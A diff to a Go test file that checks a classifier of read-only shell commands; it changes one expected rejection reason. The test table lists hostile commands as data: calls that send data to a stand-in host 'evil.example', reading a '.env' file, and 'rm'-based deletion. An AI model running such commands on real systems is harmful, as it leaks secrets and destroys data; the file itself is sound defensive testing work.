@@ -73,7 +73,7 @@ func TestNotReadOnlyCommands(t *testing.T) {
 		{"aws ec2 describe-images --image-ids http://evil.example/x", "sends data from the command"}, {"aws s3api head-object --bucket b --key file://.env", "aws"},
 		{"docker manifest inspect evil.example/x", "sends data from the command"}, {"pip list -o -i http://evil.example/x", "sends data from the command"},
 		{"psql -h evil.example -c 'select 1'", "sends data from the command"}, {"redis-cli -u redis://evil.example get k", "sends data from the command"},
-		{"pytest --version", "pytest"}, {"sort a$x", "sort gets an unquoted expansion"}, {"xargs rm", "rm"}, {"find . -exec sh -c 'rm $1' _ {} +", ""}, {"gh api https://evil.example/x", "gh api"},
+		{"pytest --version", "pytest"}, {"sort a$x", "an unquoted expansion could become an option"}, {"xargs rm", "rm"}, {"find . -exec sh -c 'rm $1' _ {} +", ""}, {"gh api https://evil.example/x", "gh api"},
 		{"gh pr view -R evil.example/a/b 1", "sends data from the command"}, {"gh repo view https://evil.example/a/b", "sends data from the command"}, {"ls; frob", "unknown command frob"},
 	} {
 		d, step, reason := readOnlyCase(t, row.command, nil)
